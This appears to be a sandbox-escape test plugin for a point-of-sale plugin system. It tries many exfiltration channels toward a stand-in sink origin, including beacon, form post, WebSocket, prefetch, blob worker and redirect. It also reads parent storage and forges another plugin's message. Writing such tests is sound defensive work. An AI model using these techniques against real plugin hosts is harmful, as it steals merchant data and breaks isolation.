// Tries everything a plugin must not be able to do, and tells its own console how each try ended.
//
// `config.json` beside it: `sink`, an origin off the list; `listed`, one on it that redirects to the sink;
// `shop`, the POS; `other`, another plugin's origin; `rebound`, a listed name that leads to the shop's own server.
(async function () {
  "use strict";

  const isPage = typeof window !== "undefined";
  const send = (message) => (isPage ? window.parent.postMessage(message, "*") : self.postMessage(message));
  const tell = (what, ended) =>
    send({ name: "log", version: 1, data: { type: "debug", log: { title: "spy", contents: `${what}: ${ended}` } } });

  const config = await (await fetch("/config.json")).json();
  const place = isPage ? "page" : "worker";
  const url = (way) => `${config.sink}/${place}-${way}`;

  const attempt = async (what, run) => {
    try {
      tell(what, `done ${JSON.stringify(await run())}`);
    } catch (error) {
      tell(what, `stopped ${error.name}`);
    }
  };
  const settled = (target, ok, bad) =>
    new Promise((resolve, reject) => {
      target.addEventListener(ok, () => resolve(ok), { once: true });
      target.addEventListener(bad, () => reject(new Error(bad)), { once: true });
    });

  await attempt("control", async () => (await fetch(`${config.listed}/control`, { mode: "no-cors" })).type);
  await attempt("fetch", async () => (await fetch(url("fetch"), { mode: "no-cors" })).type);
  await attempt("redirect", async () => (await fetch(`${config.listed}/redirect?to=${place}`, { mode: "no-cors" })).type);
  await attempt("socket", () => settled(new WebSocket(url("socket").replace("http", "ws")), "open", "error"));
  await attempt("api", async () =>
    (await fetch(`${config.shop}/v1/plugin.info`, { method: "POST", body: "{}", mode: "no-cors" })).type);
  await attempt("rebound", async () => (await fetch(`${config.rebound}/healthz`)).text());
  await attempt("other", async () => (await fetch(`${config.other}/secret.txt`)).text());
  await attempt("blob-worker", () =>
    new Promise((resolve, reject) => {
      const code = `fetch(${JSON.stringify(url("blob-worker"))}, { mode: "no-cors" })
        .then(() => postMessage("reached"), () => postMessage("stopped"))`;
      const worker = new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
      worker.onmessage = (event) => (event.data === "reached" ? resolve(event.data) : reject(new Error(event.data)));
      worker.onerror = () => reject(new Error("worker"));
    }));
  if (!isPage) await attempt("importScripts", () => importScripts(url("import.js")));

  if (isPage) {
    await attempt("parent-document", () => window.parent.document.title);
    await attempt("parent-storage", () => Object.keys(window.parent.localStorage));
    await attempt("top-location", () => window.top.location.href);
    await attempt("own-cookies", () => document.cookie);
    await attempt("image", () => {
      const image = new Image();
      const ended = settled(image, "load", "error");
      image.src = url("image.png");
      return ended;
    });
    await attempt("frame", async () => {
      const frame = document.createElement("iframe");
      frame.src = url("frame");
      document.body.append(frame);
      await settled(frame, "load", "error");
      return frame.contentDocument === null ? "left" : "blank";
    });
    await attempt("form", () => {
      const form = document.createElement("form");
      const frame = document.createElement("iframe");
      frame.name = "target";
      form.action = url("form");
      form.method = "post";
      form.target = "target";
      document.body.append(frame, form);
      form.submit();
      return "sent";
    });
    await attempt("beacon", () => navigator.sendBeacon(url("beacon"), "secret"));
    await attempt("popup", () => (window.open(url("popup")) === null ? Promise.reject(new Error("null")) : "opened"));
    await attempt("style", () => {
      const style = document.createElement("style");
      style.textContent = `body { background: url(${url("style.png")}) }`;
      document.head.append(style);
      return "set";
    });
    await attempt("prefetch", () => {
      const link = document.createElement("link");
      link.rel = "prefetch";
      link.href = url("prefetch");
      document.head.append(link);
      return "set";
    });
    await attempt("top-navigation", () => {
      window.top.location.href = url("top");
      return "set";
    });
  }
  send({ name: "merchant.info.request", version: 1, callbackId: "forged", data: {}, plugin: "other", from: "other" });
  tell("end", place);
  if (isPage) window.location.href = url("navigation");
})();
